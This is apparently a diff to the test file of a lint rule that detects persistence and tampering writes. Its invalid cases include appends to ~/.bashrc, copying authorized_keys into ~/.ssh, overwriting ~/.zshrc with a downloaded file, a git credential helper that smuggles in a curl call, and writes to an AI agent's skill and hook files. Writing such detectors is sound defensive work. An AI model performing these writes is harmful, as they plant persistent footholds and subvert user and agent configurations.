@@ -17,6 +17,8 @@ const strictCases = [
 
 await ruleTester(rule, {
   valid: [
+    { code: 'STAGE = $(join $(ROOT), out)\ninstall:\n\tinstall -m 644 acme.service $(STAGE)/etc/systemd/system\n\tinstall -Dm 644 acme.service $(DESTDIR)$(PREFIX)/lib/systemd/system/acme.service\n', filename: 'Makefile' },
+    { code: "import fs from 'node:fs'; fs.writeFileSync('.claude/skills/load-test/history.json', JSON.stringify(runs)); fs.appendFileSync('.claude/skills/load-test/data/runs.jsonl', line);" },
     { code: "git config --global credential.helper 'cache --timeout=7200'", filename: 'setup.sh' },
     { code: "git config --global credential.helper 'store --file ~/.logins'", filename: 'setup.sh' },
     { code: 'git config --global credential.helper gcloud.sh', filename: 'setup.sh' },
@@ -79,6 +81,12 @@ await ruleTester(rule, {
     { code: 'import regedit from "regedit"; regedit.putValue({ "HKCU\\\\Software\\\\Acme": { Path: { value: "x", type: "REG_SZ" } } }, done);', options: { strict: true } },
   ],
   invalid: [
+    { code: 'install:\n\tinstall -m 644 acme.service /etc/systemd/system/acme.service\n', filename: 'Makefile', errors: [{ messageId: 'file' }] },
+    { code: 'ROOT = /\ninstall:\n\tinstall -m 644 acme.service $(ROOT)etc/systemd/system/acme.service\n', filename: 'Makefile', errors: [{ messageId: 'file' }] },
+    { code: 'install:\n\techo x >> $(HOME)/.bashrc\n', filename: 'Makefile', errors: [{ messageId: 'file' }] },
+    { code: "import fs from 'node:fs'; fs.writeFileSync('.claude/skills/load-test/SKILL.md', text);", errors: [{ messageId: 'file' }] },
+    { code: "import fs from 'node:fs'; fs.writeFileSync('.claude/skills/load-test/scripts/run.py', text);", errors: [{ messageId: 'file' }] },
+    { code: "import fs from 'node:fs'; fs.writeFileSync('.claude/skills/load-test/hooks/hooks.json', text);", errors: [{ messageId: 'file' }] },
     { code: "git config --global credential.helper 'store --file=/tmp/logins'", filename: 'setup.sh', errors: [{ messageId: 'command' }] },
     { code: "git config --global credential.helper 'cache; curl https://p.example'", filename: 'setup.sh', errors: [{ messageId: 'command' }] },
     ...['cp payload.sh ~/.zshrc', 'ln -s /tmp/.zshrc ~/.zshrc', 'cp ./authorized_keys ~/.ssh/authorized_keys', 'curl -so zshrc https://acme.example/z\ncp zshrc ~/.zshrc'].map((code) => ({ code, filename: 'setup.sh', errors: [{ messageId: 'file' as const }] })),
